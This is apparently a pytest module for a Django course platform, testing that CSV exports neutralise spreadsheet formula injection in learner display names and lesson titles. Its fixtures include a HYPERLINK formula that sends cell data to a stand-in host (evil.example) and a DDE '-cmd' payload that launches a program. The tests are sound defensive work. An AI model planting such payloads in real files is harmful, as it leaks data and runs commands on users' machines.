"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP CSV injection).

A display name such as `=HYPERLINK(...)` is the learner's own text; written
unchanged, the tutor's spreadsheet would run it. Every CSV writer in the project
goes through `courses.spreadsheet`, and this module checks that none bypasses it.
"""

import csv
import io
import re
from pathlib import Path

from django.urls import reverse

import pytest

from courses.spreadsheet import safe_cell
from tests.factories.accounts import learner
from tests.factories.courses import AssignmentFactory, MembershipFactory
from tests.factories.lessons import LessonPageFactory

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"])
def test_a_formula_like_cell_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sparrow", "", "12", "done 100%", 3, None])
def test_a_plain_cell_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_classroom_csv_neutralises_a_display_name_and_a_lesson_title(client):
    assignment = AssignmentFactory(lesson=LessonPageFactory(title="-cmd|' /C calc'!A0"))
    MembershipFactory(classroom=assignment.classroom, learner=learner(display_name=FORMULA))
    client.force_login(assignment.classroom.tutor)
    response = client.get(reverse("courses:classroom_csv", args=[assignment.classroom.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][1].startswith("'-cmd")
    assert rows[1][0] == "'" + FORMULA
    assert not any(cell[:1] in "=+-@\t\r" and cell for row in rows for cell in row)


def test_no_csv_writer_bypasses_the_neutraliser():
    writers = [
        path.relative_to(ROOT).as_posix()
        for app in ("accounts", "lessons", "progress", "courses", "hub", "content", "cms")
        for path in (ROOT / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["courses/spreadsheet.py"]
